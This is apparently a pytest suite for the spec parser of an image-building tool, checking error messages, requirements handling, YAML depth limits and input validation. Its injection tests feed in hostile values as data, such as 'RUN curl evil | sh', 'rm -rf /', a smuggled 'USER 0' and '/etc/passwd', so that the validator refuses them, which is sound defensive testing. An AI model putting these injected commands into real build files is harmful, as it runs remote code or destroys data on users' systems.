"""Spec parsing and validation: every problem at once, with key paths; nothing unsafe gets through."""

import os
from pathlib import Path

import pytest

from imagesmith.errors import SpecError
from imagesmith.spec.load import load_spec
from imagesmith.spec.parse import parse_spec
from imagesmith.spec.problems import show

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

VALID = {
    "name": "demo",
    "python": "3.11",
    "base": "python:3.11-slim",
    "requirements": ["six==1.17.0"],
    "source": ["app.py"],
    "train": {"command": "python app.py train"},
    "serve": {"command": ["python", "app.py"], "port": 8000},
}


@pytest.fixture
def root(tmp_path):
    (tmp_path / "app.py").write_text("print('hi')\n")
    (tmp_path / "requirements.txt").write_text("six\n")
    return tmp_path


def problems(data, root):
    with pytest.raises(SpecError) as info:
        parse_spec(data, root)
    return info.value.problems


def test_iris_example_parses():
    spec = load_spec(EXAMPLES / "iris")
    assert spec.name == "iris"
    assert spec.python == "3.11"
    assert spec.platform == "linux/amd64"
    assert spec.requirements.file == "requirements.txt"
    assert spec.serve.port == 8000
    assert spec.train.command == ("python", "train.py")
    assert spec.seed == 42
    assert spec.preprocessing == ("preprocessing",)


def test_valid_spec_defaults(root):
    spec = parse_spec(VALID, root)
    assert spec.resolver == "uv"
    assert spec.train.command == ("python", "app.py", "train")
    assert spec.artifacts == "/artifacts"
    assert spec.seed == 0
    assert spec.user == "imagesmith"


def test_user_is_imagesmith_or_root(root):
    assert parse_spec({**VALID, "user": "root"}, root).user == "root"
    assert parse_spec({**VALID, "user": "imagesmith"}, root).user == "imagesmith"
    for value in ("0", 0, "10001:10001", "imagesmith\nUSER 0", ["root"], None, "Root"):
        found = problems({**VALID, "user": value}, root)
        assert len(found) == 1 and found[0].startswith(
            "user: expected imagesmith (the default: a non-root user, uid 10001) or root"
        )


def test_unknown_key_suggests_closest(root):
    found = problems({**VALID, "sytem_packages": ["curl"]}, root)
    assert found == ["sytem_packages: unknown key (did you mean 'system_packages'?)"]


def test_every_problem_reported_at_once(root):
    data = {**VALID, "python": 3.11, "seed": "x", "serve": {"command": "run", "port": 70000}, "name": "Bad Name"}
    found = problems(data, root)
    assert any(p.startswith("python:") and "quotes" in p for p in found)
    assert any(p.startswith("seed:") for p in found)
    assert any(p.startswith("serve.port:") for p in found)
    assert any(p.startswith("name:") for p in found)
    assert len(found) == 4


def test_missing_required_keys(root):
    found = problems({"name": "x"}, root)
    for key in ("python", "base", "train", "serve"):
        assert f"{key}: missing (required)" in found
    assert any(p.startswith("requirements: missing: give a requirements file") for p in found), found


def _project(root, pyproject: str | None, *locks: str):
    if pyproject is not None:
        (root / "pyproject.toml").write_text(pyproject)
    for name in locks:
        (root / name).write_text("")
    data = {k: v for k, v in VALID.items() if k != "requirements"}
    return data


def test_requirements_default_to_the_project_s_own(root):
    from imagesmith.spec import Requirements
    from imagesmith.spec.parse import parse_spec

    data = _project(root, '[project]\nname = "p"\nversion = "1"\ndependencies = ["six"]\n')
    assert parse_spec(data, root).requirements == Requirements(pyproject=True)
    (root / "uv.lock").write_text("version = 1\n")
    assert parse_spec(data, root).requirements == Requirements(lock="uv_lock")  # the lock is the truth
    (root / "uv.lock").unlink()
    (root / "poetry.lock").write_text("")
    assert parse_spec(data, root).requirements == Requirements(lock="poetry_lock")


def test_requirements_sources_are_checked(root):
    (root / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n')
    (root / "uv.lock").write_text("")
    (root / "requirements.txt").write_text("six\n")
    cases = {
        "requirements.uv_lock: expected true or false": {"uv_lock": "yes"},
        "requirements.pylock: pylock.toml does not exist": {"pylock": True},
        "requirements: names uv_lock and poetry_lock": {"uv_lock": True, "poetry_lock": True},
        "requirements.uv_lock: uv.lock is the source of truth": {"uv_lock": True, "file": "requirements.txt"},
        "requirements.groups: dependency groups come from pyproject.toml": {
            "file": "requirements.txt",
            "groups": ["dev"],
        },
        "requirements.groups[0]: expected a dependency group name": {"pyproject": True, "groups": ["bad group!"]},
    }
    for want, value in cases.items():
        found = problems({**VALID, "requirements": value}, root)
        assert any(p.startswith(want) for p in found), (want, found)
    from imagesmith.spec import Requirements
    from imagesmith.spec.parse import parse_spec

    ok = parse_spec({**VALID, "requirements": {"uv_lock": True, "extras": ["gpu"], "groups": ["train"]}}, root)
    assert ok.requirements == Requirements(extras=("gpu",), groups=("train",), lock="uv_lock")


@pytest.mark.parametrize("path", ["../outside.py", "/etc/passwd", "a/../../b", "src/*.py", 'x"y', "$HOME/x"])
def test_paths_cannot_escape_or_inject(root, path):
    found = problems({**VALID, "source": [path]}, root)
    assert len(found) == 1 and found[0].startswith("source[0]:")


def test_symlink_out_of_project_is_refused(root, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret.txt").write_text("x")
    os.symlink(outside, root / "link")
    found = problems({**VALID, "source": ["link"]}, root)
    assert "resolves outside the project" in found[0]


def test_missing_file_is_named(root):
    found = problems({**VALID, "requirements": "nope.txt"}, root)
    assert found == [f"requirements: 'nope.txt' does not exist in {root}"]


@pytest.mark.parametrize(
    "key,value",
    [
        ("base", "python:3.11\nRUN curl evil | sh"),
        ("base", "python 3.11"),
        ("env", {"A": "x\nRUN rm -rf /"}),
        ("env", {"BAD-NAME": "x"}),
        ("system_packages", ["curl && rm -rf /"]),
        ("train", {"command": ["python", "a\nRUN x"]}),
        ("artifacts", "relative/path"),
        ("user", "imagesmith\nUSER 0"),
    ],
)
def test_values_that_could_inject_instructions_are_refused(root, key, value):
    assert problems({**VALID, key: value}, root)


def test_invalid_inline_requirement(root):
    found = problems({**VALID, "requirements": ["numpy>>1"]}, root)
    assert found[0].startswith("requirements[0]: 'numpy>>1' is not a valid requirement")


def test_malformed_yaml_names_line(tmp_path):
    (tmp_path / "imagesmith.yaml").write_text("name: x\npython: [3.11\n")
    with pytest.raises(SpecError) as info:
        load_spec(tmp_path)
    assert "not valid YAML (line" in str(info.value)


def test_a_spec_nested_thousands_deep_is_refused_before_the_yaml_scanner_reads_it_all(tmp_path, monkeypatch):
    """PyYAML's scanner spends time quadratic in the nesting depth (a second of CPU for 5,000
    nested lists, when Python's recursion limit finally stopped it): the loader stops at its own
    depth, having scanned a few hundred tokens; a spec nested within that depth is still named by path."""
    import yaml.scanner

    fetched = [0]
    real = yaml.scanner.Scanner.fetch_more_tokens

    def counting(self):
        fetched[0] += 1
        return real(self)

    monkeypatch.setattr(yaml.scanner.Scanner, "fetch_more_tokens", counting)
    (tmp_path / "imagesmith.yaml").write_text("name: " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(SpecError, match="nested too deeply to read"):
        load_spec(tmp_path)
    assert 0 < fetched[0] < 500
    (tmp_path / "imagesmith.yaml").write_text("name: " + "[" * 40 + "]" * 40 + "\n")
    with pytest.raises(SpecError, match=r"name(\[0\]){32}: nested more than 32 levels deep"):
        load_spec(tmp_path)


def test_no_spec_in_directory(tmp_path):
    with pytest.raises(SpecError) as info:
        load_spec(tmp_path)
    assert "no imagesmith.yaml here" in str(info.value)


def test_pyproject_table(root):
    (root / "pyproject.toml").write_text(
        '[project]\nname = "demo"\nversion = "1"\n\n[tool.imagesmith]\nname = "demo"\npython = "3.11"\n'
        'base = "python:3.11-slim"\nrequirements = ["six"]\nsource = ["app.py"]\n'
        '[tool.imagesmith.train]\ncommand = "python app.py"\n[tool.imagesmith.serve]\ncommand = "python app.py"\nport = 80\n'
    )
    spec = load_spec(root)
    assert spec.origin == "pyproject.toml [tool.imagesmith]"
    assert spec.serve.port == 80


def test_a_pyproject_spec_is_read_once_and_gives_its_project_to_install_project(root, monkeypatch):
    """``[tool.imagesmith]`` in pyproject.toml: the file is read and parsed once for finding the
    spec, reading it and ``install_project: auto`` (it was three times), and the project it
    describes is the one installed; a symlinked pyproject.toml is still not read for the project."""
    from imagesmith import fsutil

    (root / "pyproject.toml").write_text(
        '[project]\nname = "demo"\nversion = "1"\n[build-system]\nrequires = ["setuptools>=69"]\n'
        'build-backend = "setuptools.build_meta"\n\n[tool.imagesmith]\nname = "demo"\npython = "3.11"\n'
        'base = "python:3.11-slim"\nrequirements = ["six"]\nsource = ["app.py"]\n'
        '[tool.imagesmith.train]\ncommand = "python app.py"\n[tool.imagesmith.serve]\ncommand = "python app.py"\n'
    )
    reads: list[str] = []
    real = fsutil.read_bounded
    monkeypatch.setattr(
        fsutil, "read_bounded", lambda path, *a, **k: reads.append(Path(path).name) or real(path, *a, **k)
    )
    spec = load_spec(root)
    assert reads.count("pyproject.toml") == 1, reads
    assert spec.project is not None and spec.project.name == "demo"
    moved = root / "real.toml"
    (root / "pyproject.toml").rename(moved)
    (root / "pyproject.toml").symlink_to(moved.name)
    assert load_spec(root).project is None  # read_pyproject's rule: a linked pyproject.toml is not the project's


def test_a_spec_read_again_is_its_parse_remembered_and_an_edit_is_read_anew(root):
    """What a YAML spec's text parsed to is remembered (a no-op lock then needs no PyYAML):
    an edit is read anew, data JSON would change (a date) is never remembered, a spec that
    fails is refused every time, and a damaged cache entry is ignored."""
    import yaml

    from imagesmith.spec import load

    spec_file = root / "imagesmith.yaml"
    spec_file.write_text(yaml.safe_dump({**VALID, "seed": 7}))
    assert load_spec(root).seed == 7
    cached = load._parsed_path(spec_file)
    assert load._parsed_before(spec_file, load._text_key(spec_file.read_text())) == {**VALID, "seed": 7}
    assert load_spec(root).seed == 7  # from the remembered parse
    spec_file.write_text(yaml.safe_dump({**VALID, "seed": 8}))
    assert load_spec(root).seed == 8
    spec_file.write_text(yaml.safe_dump({**VALID, "seed": 8}) + "created: 2026-01-02\n")
    with pytest.raises(SpecError, match="created"):  # a date: not JSON, parsed (and refused) each time
        load_spec(root)
    assert load._parsed_before(spec_file, load._text_key(spec_file.read_text())) is None
    spec_file.write_text("name: x\nname: y\n")
    for _ in range(2):
        with pytest.raises(SpecError, match="given twice"):
            load_spec(root)
    spec_file.write_text(yaml.safe_dump({**VALID, "seed": 9}))
    cached.write_text("{not json")
    assert load_spec(root).seed == 9
    assert load_spec(root).seed == 9


def test_heavy_names_distributions_canonically_sorted_once(root):
    spec = parse_spec({**VALID, "heavy": ["OpenCV_Python", "scipy", "opencv-python"]}, root)
    assert spec.heavy == ("opencv-python", "scipy")
    assert parse_spec(VALID, root).heavy == ()
    assert parse_spec({**VALID, "heavy": "scipy"}, root).heavy == ("scipy",)


def test_heavy_refuses_what_is_not_a_distribution_name(root):
    found = problems({**VALID, "heavy": ["scipy", "../etc", "a b"]}, root)
    assert found == [
        "heavy[1]: '../etc' is not a distribution name (like 'opencv-python')",
        "heavy[2]: 'a b' is not a distribution name (like 'opencv-python')",
    ]
    assert problems({**VALID, "heavy": {"scipy": 1}}, root) == ["heavy: expected a list of strings, got a mapping"]


@pytest.mark.parametrize(
    ("predict", "ok"),
    [
        ("app.predict:predict", True),
        ("serve:predictor.predict", True),  # an entry point's object reference: a method of the module's object
        ("pkg.serve:app.state.model.predict", True),
        ("app.predict", False),
        ("app.:predict", False),
        ("app:predictor.", False),
        ("app:predict()", False),
        (":predict", False),
    ],
)
def test_signoff_predict_is_an_entry_point_object_reference(root, predict, ok):
    data = {**VALID, "signoff": {"predict": predict}}
    if ok:
        assert parse_spec(data, root).signoff.predict == predict
    else:
        with pytest.raises(SpecError, match="expected 'module:function' \\(or 'module:object.method'\\)"):
            parse_spec(data, root)


@pytest.mark.parametrize(
    ("timeout", "ok"),
    [(600, True), (1, True), (86_400, True), (0, False), (86_401, False), (1.5, False), (True, False), ("600", False)],
)
def test_signoff_timeout_is_whole_seconds_in_range(root, timeout, ok):
    """``signoff.timeout``: how long the batch function may take on all the samples (600 s when absent)."""
    assert parse_spec({**VALID, "signoff": {}}, root).signoff.timeout == 600
    data = {**VALID, "signoff": {"timeout": timeout}}
    if ok:
        assert parse_spec(data, root).signoff.timeout == timeout
    else:
        assert problems(data, root) == [f"signoff.timeout: expected whole seconds from 1 to 86400, got {show(timeout)}"]
